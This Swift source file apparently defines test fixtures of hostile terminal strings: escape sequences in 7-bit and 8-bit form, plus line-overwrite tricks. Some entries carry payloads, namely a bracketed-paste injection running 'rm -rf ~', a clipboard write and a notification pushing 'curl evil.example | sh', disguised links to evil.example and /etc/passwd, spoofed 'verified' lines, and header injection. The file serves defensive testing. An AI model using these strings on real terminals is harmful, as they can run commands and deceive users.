extension HostileStrings {
    /// Terminal sequences in 7-bit form; each with an introducer also appears in 8-bit form.
    static let sevenBitSequences: [(name: String, text: String)] = {
        let e = esc
        return [
            // CSI: screen and cursor
            ("csi-2j-clear-screen", "\(e)[2J\(e)[Hthe screen was cleared"),
            ("csi-3j-clear-scrollback", "\(e)[3Jscrollback gone"),
            ("csi-2k-erase-line", "visible text\(e)[2K\(e)[1Greplaced text"),
            ("csi-h-cursor-home", "\(e)[Hwritten at the top left"),
            ("csi-cup-cursor-position", "\(e)[10;10Hwritten elsewhere"),
            ("csi-cuu-cursor-up", "\(e)[5Aup five lines"),
            ("csi-cub-cursor-back", "safe\(e)[4Devil"),
            ("csi-save-restore-cursor", "\(e)[s\(e)[1;1Htop\(e)[u"),
            ("csi-decstbm-scroll-region", "\(e)[1;2rscroll region set"),
            ("csi-il-insert-lines", "\(e)[50Linserted lines"),
            ("csi-dch-delete-chars", "\(e)[100Pdeleted characters"),
            ("csi-ech-erase-chars", "\(e)[80Xerased"),
            ("csi-rep-repeat", "A\(e)[65535b"),
            // CSI: SGR
            ("csi-sgr-red", "\(e)[31mred text\(e)[0m"),
            ("csi-sgr-no-reset", "\(e)[1;31;44mbold red on blue, never reset"),
            ("csi-sgr-conceal", "\(e)[8mconcealed text\(e)[28m"),
            ("csi-sgr-blink-reverse", "\(e)[5;7mblinking reversed"),
            ("csi-sgr-truecolor", "\(e)[38;2;255;0;0m\(e)[48;2;255;0;0minvisible red on red"),
            ("csi-sgr-underline-color", "\(e)[4:3m\(e)[58:2::255:0:0mcurly"),
            ("csi-sgr-unterminated", "\(e)[31"),
            ("csi-huge-parameter", "\(e)[99999999999999999999m"),
            ("csi-many-parameters", "\(e)[" + String(repeating: "1;", count: 500) + "m"),
            // CSI: queries (the terminal answers on stdin)
            ("csi-6n-dsr-cursor-report", "\(e)[6n"),
            ("csi-5n-dsr-status", "\(e)[5n"),
            ("csi-c-da1-query", "\(e)[c"),
            ("csi-gt-c-da2-query", "\(e)[>c"),
            ("csi-21t-title-report", "\(e)[21t"),
            ("csi-14t-size-report", "\(e)[14t"),
            ("csi-decrqm-query", "\(e)[?2026$p"),
            ("csi-xtversion-query", "\(e)[>0q"),
            // CSI: window operations
            ("csi-8t-resize-window", "\(e)[8;1;1t"),
            ("csi-2t-iconify", "\(e)[2t"),
            ("csi-3t-move-window", "\(e)[3;0;0t"),
            ("csi-5i-media-copy", "\(e)[5iprinted"),
            // Modes
            ("alt-screen-enter-1049", "\(e)[?1049h"),
            ("alt-screen-leave-1049", "\(e)[?1049l"),
            ("alt-screen-enter-47", "\(e)[?47h"),
            ("alt-screen-leave-1047", "\(e)[?1047l"),
            ("cursor-hide", "\(e)[?25l"),
            ("autowrap-off", "\(e)[?7l"),
            ("origin-mode", "\(e)[?6h"),
            ("insert-mode", "\(e)[4h"),
            ("mouse-x10-on", "\(e)[?9h"),
            ("mouse-1000-on", "\(e)[?1000h"),
            ("mouse-1002-drag-on", "\(e)[?1002h"),
            ("mouse-1003-any-on", "\(e)[?1003h"),
            ("mouse-1006-sgr-on", "\(e)[?1006h"),
            ("mouse-off", "\(e)[?1000l\(e)[?1003l"),
            ("focus-events-on", "\(e)[?1004h"),
            ("bracketed-paste-on", "\(e)[?2004h"),
            ("bracketed-paste-off", "\(e)[?2004l"),
            ("bracketed-paste-end-injection", "\(e)[201~rm -rf ~\n"),
            ("synchronized-output-on", "\(e)[?2026h"),
            // OSC
            ("osc-0-title-bel", "\(e)]0;owned window title\(bel)"),
            ("osc-0-title-st", "\(e)]0;owned window title\(st)"),
            ("osc-1-icon-name", "\(e)]1;icon\(bel)"),
            ("osc-2-title-bel", "\(e)]2;sudo password:\(bel)"),
            ("osc-2-title-st", "\(e)]2;sudo password:\(st)"),
            ("osc-8-hyperlink-st", "\(e)]8;;https://evil.example/steal\(st)https://snapcraft.io\(e)]8;;\(st)"),
            ("osc-8-hyperlink-bel", "\(e)]8;;file:///etc/passwd\(bel)documentation\(e)]8;;\(bel)"),
            ("osc-8-unclosed-link", "\(e)]8;;https://evil.example/\(st)everything after this is a link"),
            ("osc-52-clipboard-write", "\(e)]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK\(bel)"),
            ("osc-52-clipboard-write-st", "\(e)]52;p;ZWNobyBwd25lZA==\(st)"),
            ("osc-52-clipboard-query", "\(e)]52;c;?\(bel)"),
            ("osc-4-palette-set", "\(e)]4;0;rgb:ff/ff/ff;7;rgb:ff/ff/ff\(bel)"),
            ("osc-10-foreground-query", "\(e)]10;?\(bel)"),
            ("osc-11-background-set", "\(e)]11;#ffffff\(bel)"),
            ("osc-50-font-query", "\(e)]50;?\(bel)"),
            ("osc-7-working-directory", "\(e)]7;file://evil.example/home\(bel)"),
            ("osc-9-notification", "\(e)]9;Your session expired, run the command in the clipboard\(bel)"),
            ("osc-777-notification", "\(e)]777;notify;Update;run curl evil.example | sh\(bel)"),
            ("osc-1337-iterm-file", "\(e)]1337;File=name=eA==;inline=1:AAAA\(bel)"),
            ("osc-133-prompt-mark", "\(e)]133;A\(bel)"),
            ("osc-unterminated", "\(e)]0;this title never ends and swallows the rest of the frame"),
            ("osc-nested-escape", "\(e)]0;\(e)]0;inner\(bel)outer\(bel)"),
            // DCS, APC, PM, SOS
            ("dcs-decrqss-query", "\(e)P$qm\(st)"),
            ("dcs-xtgettcap-query", "\(e)P+q544e\(st)"),
            ("dcs-tmux-passthrough", "\(e)Ptmux;\(e)\(e)]0;escaped tmux\(bel)\(st)"),
            ("dcs-sixel-image", "\(e)Pq#0;2;0;0;0#0~~@@vv@@~~\(st)"),
            ("dcs-unterminated", "\(e)P1$r and the rest is swallowed"),
            ("apc-kitty-graphics", "\(e)_Gf=100,a=T;AAAA\(st)"),
            ("apc-unterminated", "\(e)_never terminated application command"),
            ("pm-privacy-message", "\(e)^privacy message\(st)"),
            ("sos-start-of-string", "\(e)Xstart of string\(st)"),
            // Plain ESC sequences
            ("esc-c-full-reset", "\(e)c"),
            ("esc-7-save-cursor", "\(e)7saved\(e)8"),
            ("esc-d-index", "\(e)D"),
            ("esc-m-reverse-index", "\(e)M\(e)M\(e)Mup"),
            ("esc-paren-0-line-drawing", "\(e)(0lqqqk\(e)(B"),
            ("esc-paren-0-unreset", "\(e)(0everything after this draws lines"),
            ("esc-hash-8-screen-alignment", "\(e)#8"),
            ("esc-hash-3-double-height", "\(e)#3huge"),
            ("esc-equals-keypad", "\(e)="),
            ("esc-z-identify-query", "\(e)Z"),
            ("esc-space-g-8bit-responses", "\(e) G"),
            ("esc-n-ss2", "\(e)Nx"),
            ("esc-trailing-lone", "text ends with escape\(e)"),
            ("esc-double", "\(e)\(e)[2J"),
        ]
    }()

    /// The 7-bit introducers and their 8-bit (C1) equivalents.
    private static let eightBitForms: [(sevenBit: Unicode.Scalar, c1: Unicode.Scalar)] = [
        ("[", "\u{9B}"), ("]", "\u{9D}"), ("P", "\u{90}"), ("_", "\u{9F}"), ("^", "\u{9E}"), ("X", "\u{98}"), ("\\", "\u{9C}"),
    ]

    /// `text` with every `ESC [`, `ESC ]`, `ESC P`, `ESC _`, `ESC ^`, `ESC X`, `ESC \` in C1 form; `nil` if none.
    static func eightBit(_ text: String) -> String? {
        var output = String.UnicodeScalarView()
        var changed = false
        var pendingEscape = false
        for scalar in text.unicodeScalars {
            if pendingEscape {
                pendingEscape = false
                if let form = eightBitForms.first(where: { $0.sevenBit == scalar }) {
                    output.append(form.c1)
                    changed = true
                    continue
                }
                output.append("\u{1B}")
            }
            if scalar == "\u{1B}" { pendingEscape = true } else { output.append(scalar) }
        }
        if pendingEscape { output.append("\u{1B}") }
        return changed ? String(output) : nil
    }

    /// Every sequence in 7-bit form, then every one that has an 8-bit form.
    static let escapes: [HostileString] = {
        var result = sevenBitSequences.map { HostileString(name: $0.name, text: $0.text, kind: .escape) }
        for sequence in sevenBitSequences {
            if let converted = eightBit(sequence.text) {
                result.append(HostileString(name: sequence.name + "-8bit", text: converted, kind: .escape))
            }
        }
        return result
    }()

    /// Line-overwrite tricks: what a terminal shows is not what the string says.
    static let overwrites: [HostileString] = [
        HostileString(name: "cr-overwrite", text: "rm -rf / is dangerous\rsafe to run        ", kind: .overwrite),
        HostileString(name: "cr-hide-prefix", text: "EVIL PAYLOAD\rInnocent summary", kind: .overwrite),
        HostileString(name: "cr-erase-line", text: "secret\r\u{1B}[Knothing here", kind: .overwrite),
        HostileString(name: "cr-progress-spoof", text: "downloading 3%\rdownloading 100% verified", kind: .overwrite),
        HostileString(name: "cr-only", text: "\r", kind: .overwrite),
        HostileString(name: "crlf-fake-line", text: "summary\r\nPublisher: Canonical ✓ (verified)", kind: .overwrite),
        HostileString(name: "lf-fake-status-line", text: "title\nStatus: approved by reviewer", kind: .overwrite),
        HostileString(name: "lf-many", text: String(repeating: "\n", count: 200) + "scrolled away", kind: .overwrite),
        HostileString(name: "backspace-overwrite", text: "unsafe\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}safe  ", kind: .overwrite),
        HostileString(name: "backspace-before-start", text: String(repeating: "\u{8}", count: 40) + "left margin", kind: .overwrite),
        HostileString(name: "tab-run", text: "a\t\t\t\t\t\t\t\t\t\t\t\t\t\t\t\tb", kind: .overwrite),
        HostileString(name: "vt-ff-breaks", text: "page\u{0B}one\u{0C}two", kind: .overwrite),
        HostileString(name: "crlf-header-injection", text: "value\r\nSet-Cookie: session=evil\r\n\r\n<html>", kind: .overwrite),
    ]
}
